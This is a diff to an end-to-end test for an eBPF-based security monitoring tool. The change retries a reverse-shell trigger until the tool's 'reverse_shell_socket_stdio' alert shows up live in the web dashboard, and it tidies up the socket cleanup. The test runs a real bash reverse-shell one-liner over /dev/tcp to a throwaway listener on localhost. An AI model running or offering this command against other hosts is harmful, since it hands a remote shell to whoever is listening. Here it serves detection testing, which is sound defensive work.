@@ -12,7 +12,7 @@ import { BUILD_DIR, apiCall, apiLogin, check, launchChromium, log, loginUi, main
 const RULE = "reverse_shell_socket_stdio";  // hub/rules (as tests/e2e/stack_e2e_test.cpp)
 
 main(async () => {
-  watchdog(280);
+  watchdog(290);
   const vigilctl = path.join(BUILD_DIR, "bin", "vigilctl");
   if (process.getuid?.() !== 0) return skip("needs root (the agent's eBPF driver sees the reverse shell)");
   if (!fs.existsSync(vigilctl)) return skip(`${vigilctl} is not built`);
@@ -70,31 +70,38 @@ main(async () => {
   await page.evaluate(() => ((window).__noReload = true));
 
   // A local listener takes the reverse shell, tells it to exit and closes.
+  const sockets = new Set();
   const listener = net.createServer((sock) => {
+    sockets.add(sock);
     sock.on("error", () => {});
     setTimeout(() => sock.end("exit\n"), 500);
+    setTimeout(() => sock.destroy(), 3000);
   });
   await new Promise((r) => listener.listen(0, "127.0.0.1", r));
-  onExit(() => new Promise((r) => listener.close(() => r())));
+  onExit(() => {
+    for (const s of sockets) s.destroy();
+    return new Promise((r) => listener.close(() => r()));
+  });
   const port = listener.address().port;
-  log(`reverse shell to 127.0.0.1:${port}`);
-  const shell = await run("timeout", ["-s", "KILL", "15", "/bin/bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeoutMs: 20000 });
-  log(`the shell ended (${shell.code})`);
-
   // The reverse shell's alert (other activity of the machine may raise alerts too): found in
-  // the API by its rule, and it must be among the rows that arrived live.
-  const row = await waitFor(
-    "the reverse shell's alert in the open list (live)",
-    async () => {
-      const found = (await apiCall(base, "GET", `/api/v1/alerts?agent_id=${encodeURIComponent(host.agent_id)}&rule_id=${RULE}&limit=50`, token)).items;
-      for (const a of found) {
-        const fresh = page.locator(`table.alerts tbody tr.fresh[data-alert="${a.alert_id}"]`);
-        if ((await fresh.count()) > 0) return fresh.first();
-      }
-      return null;
-    },
-    { timeoutMs: 90000, intervalMs: 1000 },
-  );
+  // the API by its rule, and it must be among the rows that arrived live. The driver may still
+  // be loading its eBPF programs right after `up`: a shell every 10 s, for up to 2 minutes.
+  const liveRow = async () => {
+    const found = (await apiCall(base, "GET", `/api/v1/alerts?agent_id=${encodeURIComponent(host.agent_id)}&rule_id=${RULE}&limit=50`, token)).items;
+    for (const a of found) {
+      const fresh = page.locator(`table.alerts tbody tr.fresh[data-alert="${a.alert_id}"]`);
+      if ((await fresh.count()) > 0) return fresh.first();
+    }
+    return null;
+  };
+  let row = null;
+  for (let attempt = 1; attempt <= 12 && !row; attempt++) {
+    log(`reverse shell ${attempt} to 127.0.0.1:${port}`);
+    const shell = await run("timeout", ["-s", "KILL", "15", "/bin/bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeoutMs: 20000 });
+    log(`the shell ended (${shell.code})`);
+    row = await waitFor("the reverse shell's alert in the open list (live)", liveRow, { timeoutMs: 10000, intervalMs: 500 }).catch(() => null);
+  }
+  check(row, "no reverse shell alert arrived in the open alerts list within 2 minutes");
   check(await page.evaluate(() => (window).__noReload === true), "the page was not reloaded");
   const alertId = await row.getAttribute("data-alert");
   log(`alert ${alertId} appeared live`);
